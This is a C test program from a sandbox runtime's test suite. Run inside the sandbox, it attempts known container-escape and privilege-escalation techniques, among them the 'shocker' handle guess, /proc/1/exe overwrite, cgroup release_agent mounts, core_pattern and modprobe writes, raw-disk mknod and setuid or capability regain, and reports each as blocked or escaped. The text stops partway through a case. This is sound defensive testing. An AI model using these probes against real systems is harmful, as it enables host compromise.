/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attacker: runs inside a skillrun sandbox and tries known escape and abuse
 * techniques, one per argument, printing exactly one line for each:
 *
 *   CASE[:ARG]=BLOCKED:<how it was stopped>
 *   CASE[:ARG]=ESCAPED:<what got through>
 *
 * The line's key is the argument verbatim, so the shell tests can grep it.
 * The tests/attacks scripts build a bundle holding this binary, set up
 * host-side bait, run skillrun as root and as an unprivileged user, and require
 * every case BLOCKED and the host unchanged.  Each case names the CVE or the
 * technique it is modelled on.
 *
 * The same binary has a few host-side helper modes (not run in the
 * sandbox), so the tests need nothing but the shell and util-linux:
 *
 *   attacker ids                     print uid/euid/capabilities (for the
 *                                    setuid and file-capability copies)
 *   attacker host-ipc create|check|remove KEY   SysV shm/msg/sem bait
 *   attacker host-mq create|check|remove NAME   POSIX mqueue bait
 *   attacker host-listen-unix NAME FILE   abstract-socket listener that
 *                                    appends one line per connection to FILE
 *   attacker host-swap RUNDIR FAKE   once RUNDIR's staging is complete,
 *                                    renames RUNDIR away and FAKE in
 *
 * Only libc: it must run wherever /usr is bound.
 */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/magic.h>
#include <linux/net_tstamp.h>
#include <linux/seccomp.h>
#include <linux/sock_diag.h>
#include <mqueue.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <linux/in6.h> /* after netinet/in.h, which it defers to */
#include <arpa/inet.h>
#include <sched.h>
#include <stddef.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <grp.h>
#include <sys/file.h>
#include <sys/fsuid.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* ------------------------------------------------------------ results */

struct res {
  char esc[4096]; /* what got through; empty means blocked */
  char how[1024]; /* how it was stopped */
};

static const char *ename(int e) {
  const char *n = strerrorname_np(e);
  return n ? n : "EUNKNOWN";
}

static void append(char *buf, size_t size, const char *fmt, va_list ap) {
  size_t len = strlen(buf);

  if (len + 3 >= size)
    return;
  if (len > 0) {
    strcpy(buf + len, ", ");
    len += 2;
  }
  (void)vsnprintf(buf + len, size - len, fmt, ap);
}

__attribute__((format(printf, 2, 3))) static void esc(struct res *r,
                                                      const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  append(r->esc, sizeof(r->esc), fmt, ap);
  va_end(ap);
}

__attribute__((format(printf, 2, 3))) static void how(struct res *r,
                                                      const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  append(r->how, sizeof(r->how), fmt, ap);
  va_end(ap);
}

/* A call that must fail: rc < 0 (errno set) is the blocked outcome. */
static void must_fail(struct res *r, const char *what, long rc) {
  if (rc >= 0)
    esc(r, "%s succeeded", what);
  else
    how(r, "%s:%s", what, ename(errno));
}

/* Prints the one line of a case; control bytes in details made visible. */
static void report(const char *key, const struct res *r) {
  const char *s = r->esc[0] ? r->esc : r->how;

  printf("%s=%s:", key, r->esc[0] ? "ESCAPED" : "BLOCKED");
  for (; *s; s++) {
    unsigned char ch = (unsigned char)*s;
    if (ch < 0x20 || ch == 0x7f)
      printf("\\x%02x", ch);
    else
      putchar(ch);
  }
  putchar('\n');
  fflush(stdout);
}

static char *join(const char *a, const char *b) {
  char *s;
  if (asprintf(&s, "%s%s", a, b) < 0) {
    perror("asprintf");
    exit(2);
  }
  return s;
}

/* ------------------------------------------------ host filesystem reach */

/* Technique: read the host through a path the sandbox should not have
 * (an old root left mounted, as in CVE-2015-1328's overlay confusion, or a
 * host bind).  ARG is a host path that exists outside. */
static void case_host_path(struct res *r, const char *arg) {
  struct stat st;
  must_fail(r, "stat", stat(arg, &st));
  must_fail(r, "open", open(arg, O_RDONLY | O_CLOEXEC));
}

/* Technique: walk ".." above the root (chroot escapes, CVE-2015-2925 bind
 * mount ".." traversal).  After pivot_root the root's ".." is itself. */
static void case_dotdot(struct res *r, const char *arg) {
  char cwd[PATH_MAX];
  struct stat st;
  char *p;

  if (chdir("/workspace/inputs/bundle") < 0)
    how(r, "chdir bundle:%s", ename(errno));
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0)
      break;
  if (!getcwd(cwd, sizeof(cwd)))
    esc(r, "getcwd failed after the walk: %s (cwd outside the root?)",
        ename(errno));
  else if (strcmp(cwd, "/") != 0)
    esc(r, "cwd after 64 '..' is %s", cwd);
  p = join("../../../../../../../../../../..", arg);
  must_fail(r, "stat ../..+host path", stat(p, &st));
  free(p);
  p = join(".", arg);
  must_fail(r, "stat host path from the top", stat(p, &st));
  free(p);
  if (chdir("/workspace/scratch") < 0)
    how(r, "chdir back:%s", ename(errno));
}

/* Technique: /proc/PID/root and /proc/PID/cwd of another process lead to
 * that process's root (CVE-2019-5736 family, runc's procfs races).  Every
 * visible process must be inside the sandbox. ARG: a host path. */
static void case_proc_root(struct res *r, const char *arg) {
  DIR *d = opendir("/proc");
  struct dirent *de;
  int n = 0;

  if (!d) {
    how(r, "opendir /proc:%s", ename(errno));
    return;
  }
  while ((de = readdir(d))) {
    char *p;
    struct stat st;

    if (de->d_name[0] < '0' || de->d_name[0] > '9')
      continue;
    if (asprintf(&p, "/proc/%s/root%s", de->d_name, arg) < 0)
      exit(2);
    if (stat(p, &st) == 0)
      esc(r, "%s exists", p);
    else
      n++;
    free(p);
  }
  closedir(d);
  {
    struct stat st;
    char *p = join("/proc/self/root", arg);
    must_fail(r, "/proc/self/root+path", stat(p, &st));
    free(p);
    p = join("/proc/1/root", arg);
    must_fail(r, "/proc/1/root+path", stat(p, &st));
    free(p);
  }
  how(r, "%d pids checked", n);
}

/* Technique: CVE-2024-21626 (runc leaked a host directory fd that the
 * container reached through /proc/self/fd) and fds of pid 1 reached
 * through /proc/1/fd: no fd of any visible process may be a host file. */
static void case_proc_fds(struct res *r, const char *arg) {
  DIR *d = opendir("/proc");
  struct dirent *de;
  pid_t self = getpid();

  (void)arg;
  if (!d) {
    how(r, "opendir /proc:%s", ename(errno));
    return;
  }
  while ((de = readdir(d))) {
    char *p;
    DIR *fdd;
    struct dirent *fe;

    if (de->d_name[0] < '0' || de->d_name[0] > '9' || atoi(de->d_name) == self)
      continue;
    if (asprintf(&p, "/proc/%s/fd", de->d_name) < 0)
      exit(2);
    fdd = opendir(p);
    if (!fdd) {
      how(r, "%s:%s", p, ename(errno));
      free(p);
      continue;
    }
    while ((fe = readdir(fdd))) {
      char *q, target[PATH_MAX];
      ssize_t n;
      int fd;

      if (fe->d_name[0] == '.')
        continue;
      if (asprintf(&q, "%s/%s", p, fe->d_name) < 0)
        exit(2);
      n = readlink(q, target, sizeof(target) - 1);
      target[n > 0 ? n : 0] = '\0';
      fd = open(q, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
      if (fd >= 0) {
        esc(r, "opened %s -> %s", q, target);
        close(fd);
      }
      free(q);
    }
    closedir(fdd);
    free(p);
  }
  closedir(d);
  if (!r->how[0])
    how(r, "no other process");
}

/* Technique: learn host paths from mountinfo's root field, then open them
 * (the reconnaissance step of the 2014 "shocker" exploit and of
 * CVE-2021-30465's mount races).  A host path shown there must not lead
 * anywhere inside. */
static void case_mountinfo(struct res *r, const char *arg) {
  FILE *f = fopen("/proc/self/mountinfo", "re");
  char line[4096];
  char ident[32][256]; /* mount points bound from the same host path */
  size_t nident = 0;
  int n = 0;

  (void)arg;
  if (!f) {
    how(r, "mountinfo:%s", ename(errno));
    return;
  }
  /* Pass 1: identity binds (/usr on /usr): what lies below them is
   * visible by design, under the same name. */
  while (fgets(line, sizeof(line), f)) {
    char root[PATH_MAX], mp[PATH_MAX];
    if (sscanf(line, "%*s %*s %*s %4095s %4095s", root, mp) == 2 &&
        strcmp(root, "/") != 0 && strcmp(root, mp) == 0 && nident < 32 &&
        strlen(mp) < sizeof(ident[0]))
      strcpy(ident[nident++], mp);
  }
  rewind(f);
  while (fgets(line, sizeof(line), f)) {
    char root[PATH_MAX], mp[PATH_MAX];
    struct stat st, mst;
    bool visible = false;

    if (sscanf(line, "%*s %*s %*s %4095s %4095s", root, mp) != 2)
      continue;
    n++;
    if (strcmp(root, "/") == 0 || strcmp(root, mp) == 0)
      continue;
    for (size_t i = 0; i < nident; i++) {
      size_t l = strlen(ident[i]);
      if (strncmp(root, ident[i], l) == 0 && root[l] == '/')
        visible = true;
    }
    if (visible)
      continue;
    /* The root of a bind from the host names a host directory; reaching it
     * by that name inside would mean the host tree is mounted here. */
    if (stat(root, &st) == 0 && stat(mp, &mst) == 0 && st.st_dev == mst.st_dev)
      esc(r, "host path %s (root of %s) is reachable", root, mp);
  }
  fclose(f);
  how(r, "%d mounts, no host root reachable", n);
}

/* At or below dir (a mount point as mountinfo lists it). */
static bool at_or_below(const char *p, const char *dir) {
  size_t n = strlen(dir);
  return strncmp(p, dir, n) == 0 && (p[n] == '\0' || p[n] == '/');
}

/* Technique: look for a mount to run a planted program from, or to reach
 * a device through: one without nosuid, one in /dev or /proc without
 * noexec (a writable device mount, /dev/shm aside, or procfs), a /proc
 * mask that is a device other than the null device, a mount point
 * listed twice (what a lower mount hides is what the view's checks did
 * not see).  The whole table is read, not a list of known mounts. */
static void case_mount_flags(struct res *r, const char *arg) {
  FILE *f = fopen("/proc/self/mountinfo", "re");
  static char seen[128][256];
  char line[4096];
  size_t nseen = 0;
  int n = 0;

  (void)arg;
  if (!f) {
    esc(r, "mountinfo:%s", ename(errno));
    return;
  }
  while (fgets(line, sizeof(line), f)) {
    char mp[PATH_MAX], opts[1024], o[1026];
    struct stat st;

    if (sscanf(line, "%*s %*s %*s %*s %4095s %1023s", mp, opts) != 2)
      continue;
    n++;
    snprintf(o, sizeof(o), ",%s,", opts);
    if (!strstr(o, ",nosuid,"))
      esc(r, "%s is not nosuid (%s)", mp, opts);
    if ((at_or_below(mp, "/proc") ||
         (at_or_below(mp, "/dev") && strcmp(mp, "/dev/shm") != 0)) &&
        !strstr(o, ",noexec,"))
      esc(r, "%s is not noexec (%s)", mp, opts);
    if (at_or_below(mp, "/proc") && strcmp(mp, "/proc") != 0 &&
        !strstr(o, ",nodev,") &&
        (stat(mp, &st) < 0 || !S_ISCHR(st.st_mode) ||
         st.st_rdev != makedev(1, 3)))
      esc(r, "%s is a device mount that is not /dev/null", mp);
    for (size_t i = 0; i < nseen; i++)
      if (strcmp(seen[i], mp) == 0)
        esc(r, "%s is mounted twice", mp);
    if (nseen < 128 && strlen(mp) < sizeof(seen[0]))
      strcpy(seen[nseen++], mp);
  }
  fclose(f);
  how(r, "%d mounts: all nosuid, noexec in /dev and /proc, listed once", n);
}

/* The 2014 Docker "shocker" exploit: open_by_handle_at with a guessed
 * handle (ext4 root directory, inode 2) opens the host filesystem's root
 * through any fd on that filesystem. */
static void case_shocker(struct res *r, const char *arg) {
  struct {
    struct file_handle fh;
    unsigned char data[8];
  } h;
  int mfd =
      open(arg && *arg ? arg : "/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  long rc;

  if (mfd < 0) {
    how(r, "open mount:%s", ename(errno));
    return;
  }
  memset(&h, 0, sizeof(h));
  h.fh.handle_bytes = 8;
  h.fh.handle_type = 1; /* FILEID_INO32_GEN */
  h.data[0] = 2;        /* inode 2: the filesystem root */
  rc = syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY | O_DIRECTORY);
  must_fail(r, "open_by_handle_at", rc);
  if (rc >= 0)
    close((int)rc);
  {
    struct {
      struct file_handle fh;
      unsigned char data[128];
    } nh;
    int mnt;
    nh.fh.handle_bytes = 128;
    must_fail(
        r, "name_to_handle_at",
        syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &nh.fh, &mnt, 0));
  }
  close(mfd);
}

/* Classic chroot break-out (chroot into a subdirectory, then ".." past
 * the old root): must fail at chroot. */
static void case_chroot(struct res *r, const char *arg) {
  (void)arg;
  if (mkdir("/tmp/attack-chroot", 0755) < 0 && errno != EEXIST)
    how(r, "mkdir:%s", ename(errno));
  must_fail(r, "chroot", chroot("/tmp/attack-chroot"));
}

/* Rebuilding the view: remount read-only mounts rw, unmount a mask to
 * reveal what it hides (CVE-2019-16884 family), mount a fresh procfs or
 * cgroupfs (CVE-2022-0492 release_agent needs a cgroup v1 mount). */
static void case_mount(struct res *r, const char *arg) {
  (void)arg;
  must_fail(r, "remount / rw",
            mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  must_fail(r, "remount /usr rw",
            mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
  must_fail(r, "remount bundle rw",
            mount(NULL, "/workspace/inputs/bundle", NULL, MS_REMOUNT | MS_BIND,
                  NULL));
  must_fail(r, "umount /proc/kcore mask", umount2("/proc/kcore", MNT_DETACH));
  must_fail(r, "umount /proc/sys", umount2("/proc/sys", MNT_DETACH));
  must_fail(r, "mount cgroup v1",
            mount("cgroup", "/tmp", "cgroup", 0, "rdma,release_agent=/x"));
  must_fail(r, "mount proc", mount("proc", "/tmp", "proc", 0, NULL));
  must_fail(r, "fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  must_fail(r, "open_tree",
            syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
}

/* ------------------------------------------------- read-only areas */

/* Every way of changing a file that must stay read-only: write, truncate,
 * mode, times, xattr, rename, unlink, link. */
static void case_ro_file(struct res *r, const char *arg) {
  char *other = join(arg, ".attack");
  struct stat before, after;
  int fd;

  if (stat(arg, &before) < 0) {
    esc(r, "the file to attack is missing: %s", ename(errno));
    free(other);
    return;
  }
  fd = open(arg, O_WRONLY | O_CLOEXEC);
  must_fail(r, "open O_WRONLY", fd);
  if (fd >= 0)
    close(fd);
  fd = open(arg, O_RDWR | O_APPEND | O_CLOEXEC);
  must_fail(r, "open O_APPEND", fd);
  if (fd >= 0)
    close(fd);
  must_fail(r, "truncate", truncate(arg, 0));
  must_fail(r, "chmod", chmod(arg, 06777));
  must_fail(r, "utimensat", utimensat(AT_FDCWD, arg, NULL, 0));
  must_fail(r, "setxattr", setxattr(arg, "user.attack", "x", 1, 0));
  must_fail(r, "link", link(arg, other));
  must_fail(r, "rename", rename(arg, other));
  must_fail(r, "unlink", unlink(arg));
  if (stat(arg, &after) < 0)
    esc(r, "the file is gone");
  else if (after.st_size != before.st_size || after.st_mode != before.st_mode ||
           after.st_mtim.tv_sec != before.st_mtim.tv_sec ||
           after.st_mtim.tv_nsec != before.st_mtim.tv_nsec)
    esc(r, "the file changed");
  free(other);
}

static void case_ro_dir(struct res *r, const char *arg) {
  char *f = join(arg, "/attack-pwned");
  char *d = join(arg, "/attack-pwned.d");
  int fd;

  fd = open(f, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  must_fail(r, "create file", fd);
  if (fd >= 0)
    close(fd);
  must_fail(r, "mkdir", mkdir(d, 0755));
  must_fail(r, "mkfifo", mkfifo(f, 0644));
  must_fail(r, "symlink", symlink("/", f));
  must_fail(r, "chmod dir", chmod(arg, 01777));
  free(f);
  free(d);
}

/* CVE-2019-5736: overwrite the runtime's binary through /proc/PID/exe of
 * the sandbox's pid 1 (skillrun itself, a host file) or the skill's own. */
static void case_proc_exe(struct res *r, const char *arg) {
  int fd;

  (void)arg;
  fd = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
  must_fail(r, "open /proc/1/exe for writing", fd);
  if (fd >= 0)
    close(fd);
  fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
  must_fail(r, "open /proc/1/exe", fd);
  if (fd >= 0)
    close(fd);
  fd = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
  must_fail(r, "open /proc/self/exe for writing", fd);
  if (fd >= 0)
    close(fd);
  /* map_files entries reopen pid 1's mappings (the host binary). */
  {
    DIR *d = opendir("/proc/1/map_files");
    struct dirent *de;
    if (!d) {
      how(r, "/proc/1/map_files:%s", ename(errno));
      return;
    }
    while ((de = readdir(d))) {
      if (de->d_name[0] == '.')
        continue;
      fd = openat(dirfd(d), de->d_name, O_RDONLY | O_CLOEXEC);
      if (fd >= 0) {
        esc(r, "opened /proc/1/map_files/%s", de->d_name);
        close(fd);
        break;
      }
      how(r, "map_files entry:%s", ename(errno));
      break;
    }
    if (!r->how[0] || !strstr(r->how, "map_files"))
      how(r, "/proc/1/map_files lists nothing");
    closedir(d);
  }
}

/* OOM-killer immunity (oom_score_adj -1000) would let a memory hog push
 * the host's own processes out; lowering needs CAP_SYS_RESOURCE. */
static void case_oom_adj(struct res *r, const char *arg) {
  static const char *const files[] = {"/proc/self/oom_score_adj",
                                      "/proc/1/oom_score_adj"};
  (void)arg;
  for (size_t i = 0; i < 2; i++) {
    int fd = open(files[i], O_WRONLY | O_CLOEXEC);
    char what[64];
    if (fd < 0) {
      how(r, "open %s:%s", files[i], ename(errno));
      continue;
    }
    snprintf(what, sizeof(what), "write -1000 to %s", files[i]);
    must_fail(r, what, write(fd, "-1000", 5));
    close(fd);
  }
}

/* ------------------------------------------------ /proc and /dev */

/* Kernel knobs that escape any container when writable: core_pattern
 * (pipe to a host program, the "core_pattern escape"), modprobe and
 * uevent_helper (host program run as root), sysrq-trigger, binfmt_misc
 * (CVE-2022-... style "binfmt_misc escape"), drop_caches. Only opened,
 * never written: a success is already the escape. */
static void case_nowrite(struct res *r, const char *arg) {
  int fd = open(arg, O_WRONLY | O_CLOEXEC);
  must_fail(r, "open O_WRONLY", fd);
  if (fd >= 0)
    close(fd);
}

/* Kernel memory and other processes' secrets (kcore, kallsyms addresses
 * for KASLR bypass, kmsg, /proc/1/environ and mem of pid 1): unreadable,
 * or masked to nothing. */
static void case_noread(struct res *r, const char *arg) {
  char buf[4096];
  int fd = open(arg, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  ssize_t n;

  if (fd < 0) {
    how(r, "open:%s", ename(errno));
    return;
  }
  n = read(fd, buf, sizeof(buf));
  if (n < 0)
    how(r, "read:%s", ename(errno));
  else if (n == 0)
    how(r, "masked (empty)");
  else if (strcmp(arg, "/proc/kallsyms") == 0 &&
           strncmp(buf, "0000000000000000 ", 17) == 0)
    how(r, "addresses hidden");
  else
    esc(r, "read %zd bytes", n);
  close(fd);
}

/* The host's drivers and firmware tables under /proc (acpi, driver, scsi,
 * asound): absent, or an empty directory nothing can be made in, on a
 * read-only tmpfs (one, bound over each of them).  The file system is
 * checked too: procfs's own directory may be empty and refuse writes
 * as well, unmasked. */
static void case_masked_dir(struct res *r, const char *arg) {
  DIR *d = opendir(arg);
  struct statfs sf;
  struct dirent *de;
  int n = 0;

  if (!d) {
    if (errno == ENOENT)
      how(r, "absent");
    else
      how(r, "opendir:%s", ename(errno));
    return;
  }
  if (fstatfs(dirfd(d), &sf) < 0)
    esc(r, "fstatfs:%s", ename(errno));
  else if (sf.f_type != TMPFS_MAGIC)
    esc(r, "not masked (file system 0x%lx)", (unsigned long)sf.f_type);
  else if (!(sf.f_flags & ST_RDONLY))
    esc(r, "the mask is writable");
  else
    how(r, "read-only tmpfs");
  while ((de = readdir(d)))
    if (strcmp(de->d_name, ".") != 0 && strcmp(de->d_name, "..") != 0) {
      if (n++ == 0)
        esc(r, "lists %s", de->d_name);
    }
  closedir(d);
  if (n == 0)
    how(r, "masked (empty)");
  case_ro_dir(r, arg);
}

/* Host devices: raw disks, memory, the kernel log, tun, kvm, fuse, the
 * console.  None may be present or openable. */
static void case_nodev(struct res *r, const char *arg) {
  int fd = open(arg, O_RDWR | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
  if (fd < 0 && (errno == EACCES || errno == EROFS || errno == EISDIR))
    fd = open(arg, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
  must_fail(r, "open", fd);
  if (fd >= 0)
    close(fd);
}

/* mknod of the host's disks and /dev/mem (needs CAP_MKNOD, CVE-2016-9962
 * era container escapes); even if made, nodev on every writable mount. */
static void case_mknod(struct res *r, const char *arg) {
  struct stat st;
  dev_t disk = makedev(8, 0);

  (void)arg;
  if (stat("/usr", &st) == 0)
    disk = st.st_dev;
  must_fail(r, "mknod block /tmp",
            mknod("/tmp/attack-disk", S_IFBLK | 0666, disk));
  must_fail(r, "mknod /dev/mem /tmp",
            mknod("/tmp/attack-mem", S_IFCHR | 0666, makedev(1, 1)));
  must_fail(r, "mknod scratch",
            mknod("/workspace/scratch/attack-disk", S_IFBLK | 0666, disk));
  must_fail(r, "mknod /dev/shm",
            mknod("/dev/shm/attack-disk", S_IFBLK | 0666, disk));
}

/* Host pseudo-terminals: a devpts shared with the host lets a skill open
 * a user's terminal and inject input (CVE-2016-2315-style pts sharing). */
static void case_devpts(struct res *r, const char *arg) {
  DIR *d = opendir("/dev/pts");
  struct dirent *de;

  (void)arg;
  if (!d) {
    how(r, "opendir /dev/pts:%s", ename(errno));
    return;
  }
  while ((de = readdir(d)))
    if (de->d_name[0] >= '0' && de->d_name[0] <= '9')
      esc(r, "/dev/pts/%s visible", de->d_name);
  closedir(d);
  how(r, "no host pty in /dev/pts");
}

/* ------------------------------------------------- capabilities and uid */

static unsigned long long cap_eff(void) {
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];

  if (syscall(SYS_capget, &h, d) < 0)
    return ~0ULL;
  return (unsigned long long)d[1].effective << 32 | d[0].effective;
}

/* Plain uid regain: setuid(0) and friends must fail and leave 1000. */
static void case_setuid(struct res *r, const char *arg) {
  uid_t ru, eu, su;
  gid_t rg, eg, sg;
  gid_t zero = 0;

  (void)arg;
  must_fail(r, "setuid(0)", setuid(0));
  must_fail(r, "setresuid(0)", setresuid(0, 0, 0));
  must_fail(r, "setreuid(0)", setreuid(0, 0));
  must_fail(r, "setgid(0)", setgid(0));
  must_fail(r, "setgroups([0])", setgroups(1, &zero));
  /* setfsuid reports the previous value, never an error: read it back. */
  (void)setfsuid(0);
  if ((int)setfsuid((uid_t)-1) == 0)
    esc(r, "setfsuid(0) took effect");
  if (getresuid(&ru, &eu, &su) == 0 && (ru == 0 || eu == 0 || su == 0))
    esc(r, "uid is now %u/%u/%u", ru, eu, su);
  if (getresgid(&rg, &eg, &sg) == 0 && (rg == 0 || eg == 0 || sg == 0))
    esc(r, "gid is now %u/%u/%u", rg, eg, sg);
}

/* capset(2) raising every capability, ambient raise, securebits reset,
 * and no_new_privs cleared: each must fail and leave no capability. */
static void case_capset(struct res *r, const char *arg) {
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];

  (void)arg;
  memset(d, 0xff, sizeof(d));
  must_fail(r, "capset(all)", syscall(SYS_capset, &h, d));
  must_fail(r, "ambient raise CAP_SYS_ADMIN",
            prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
  must_fail(r, "securebits reset", prctl(PR_SET_SECUREBITS, 0, 0, 0, 0));
  must_fail(r, "no_new_privs cleared", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
  if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1)
    esc(r, "no_new_privs is off");
  if (cap_eff() != 0)
    esc(r, "effective capabilities %llx", cap_eff());
  for (int c = 0; c <= 63; c++) {
    int in = prctl(PR_CAPBSET_READ, c, 0, 0, 0);
    if (in == 1) {
      esc(r, "capability %d in the bounding set", c);
      break;
    }
  }
  for (int c = 0; c <= 63; c++) {
    if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, c, 0, 0) == 1) {
      esc(r, "capability %d in the ambient set", c);
      break;
    }
  }
}

/* Runs PATH ids and reads what it reports.  Returns the output in buf. */
static int run_ids(const char *path, char *buf, size_t len) {
  int p[2];
  pid_t pid;
  ssize_t n;
  size_t got = 0;
  int status;

  if (pipe2(p, O_CLOEXEC) < 0)
    return -errno;
  pid = fork();
  if (pid < 0)
    return -errno;
  if (pid == 0) {
    char *argv[] = {(char *)path, (char *)"ids", NULL};
    dup2(p[1], 1);
    execv(path, argv);
    printf("exec=%s\n", ename(errno));
    _exit(127);
  }
  close(p[1]);
  while (got + 1 < len && (n = read(p[0], buf + got, len - 1 - got)) > 0)
    got += (size_t)n;
  buf[got] = '\0';
  close(p[0]);
  (void)waitpid(pid, &status, 0);
  return 0;
}

/* Setuid-root binaries: the bundle's setuid copy (CVE-2021-4034 pkexec and
 * every "find a setuid binary" escape).  The staged copy must have lost the
 * bit, and running it must not raise euid or capabilities. */
static void case_suid_exec(struct res *r, const char *arg) {
  struct stat st;
  char out[512];
  unsigned euid = 1000;
  unsigned long long capeff = 0;
  const char *e;

  if (stat(arg, &st) < 0) {
    esc(r, "bait %s missing: %s", arg, ename(errno));
    return;
  }
  if (st.st_mode & (S_ISUID | S_ISGID))
    esc(r, "setuid/setgid bit kept (mode %o, owner %u)", st.st_mode & 07777,
        st.st_uid);
  else
    how(r, "bit dropped (mode %o)", st.st_mode & 07777);
  if (run_ids(arg, out, sizeof(out)) < 0) {
    how(r, "fork failed");
    return;
  }
  if ((e = strstr(out, "euid=")))
    euid = (unsigned)strtoul(e + 5, NULL, 10);
  if ((e = strstr(out, "capeff=")))
    capeff = strtoull(e + 7, NULL, 16);
  if (!strstr(out, "euid="))
    how(r, "no output (%s)", out);
  else if (euid == 0 || capeff != 0)
    esc(r, "ran with euid %u capeff %llx", euid, capeff);
  else
    how(r, "ran as euid %u capeff 0", euid);
}

/* File capabilities (security.capability xattr, the CVE-2015-1318-style
 * "capabilities survive into the container" and pkexec-less escalation):
 * the staged copy must not carry the xattr, and running it gains nothing. */
static void case_fcap_exec(struct res *r, const char *arg) {
  char val[64];
  ssize_t n = getxattr(arg, "security.capability", val, sizeof(val));

  if (n >= 0)
    esc(r, "security.capability kept (%zd bytes)", n);
  else
    how(r, "xattr:%s", ename(errno));
  case_suid_exec(r, arg);
}

/* /usr's own setuid binaries (su, mount, passwd): the mount must be nosuid
 * and no_new_privs set, so exec never raises privileges. */
static void case_usr_nosuid(struct res *r, const char *arg) {
  struct statvfs sv;

  (void)arg;
  if (statvfs("/usr", &sv) < 0)
    esc(r, "statvfs /usr: %s", ename(errno));
  else if (!(sv.f_flag & ST_NOSUID))
    esc(r, "/usr is not nosuid");
  else
    how(r, "/usr nosuid");
  if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1)
    esc(r, "no_new_privs is off");
}

/* ------------------------------------------------- namespaces */

/* New namespaces: a user namespace hands back every capability over its
 * own objects, the entry point of CVE-2022-0185 (fsconfig overflow),
 * CVE-2023-32233 (nf_tables) and most recent container escapes. */
static void case_ns_create(struct res *r, const char *arg) {
  static const struct {
    int flag;
    const char *name;
  } ns[] = {{CLONE_NEWUSER, "user"},     {CLONE_NEWNS, "mnt"},
            {CLONE_NEWNET, "net"},       {CLONE_NEWPID, "pid"},
            {CLONE_NEWIPC, "ipc"},       {CLONE_NEWUTS, "uts"},
            {CLONE_NEWCGROUP, "cgroup"}, {0x80 /* CLONE_NEWTIME */, "time"}};
  char what[64];
  long pid;

  (void)arg;
  for (size_t i = 0; i < sizeof(ns) / sizeof(ns[0]); i++) {
    snprintf(what, sizeof(what), "unshare(%s)", ns[i].name);
    must_fail(r, what, unshare(ns[i].flag));
  }
  /* clone(2) with CLONE_NEWUSER; a child that got through exits at once. */
  pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);
  if (pid == 0)
    _exit(0);
  must_fail(r, "clone(NEWUSER)", pid);
  if (pid > 0)
    (void)waitpid((pid_t)pid, NULL, 0);
  {
    struct {
      uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack,
          stack_size, tls;
    } ca = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
    pid = syscall(SYS_clone3, &ca, sizeof(ca));
    if (pid == 0)
      _exit(0);
    must_fail(r, "clone3(NEWUSER)", pid);
    if (pid > 0)
      (void)waitpid((pid_t)pid, NULL, 0);
  }
}

/* Joining namespaces: setns into pid 1's (the sandbox's own init) or,
 * through a leaked fd, the host's. */
static void case_ns_join(struct res *r, const char *arg) {
  static const char *const names[] = {"user", "mnt", "net",    "pid",
                                      "ipc",  "uts", "cgroup", "time"};
  char path[64], what[64];

  (void)arg;
  for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
    int fd;
    snprintf(path, sizeof(path), "/proc/1/ns/%s", names[i]);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      how(r, "open %s:%s", path, ename(errno));
      fd = open("/proc/self/ns/user", O_RDONLY | O_CLOEXEC);
      if (fd < 0)
        continue;
    }
    snprintf(what, sizeof(what), "setns(%s)", names[i]);
    must_fail(r, what, setns(fd, 0));
    close(fd);
  }
}

/* Kernel attack surface that most recent kernel exploits start from
 * (CVE-2021-3490 eBPF, CVE-2023-2640 io_uring, CVE-2016-0728 keyrings,
 * userfaultfd-assisted races, perf_event CVE-2013-2094, module loading). */
static void case_kernel(struct res *r, const char *arg) {
  struct {
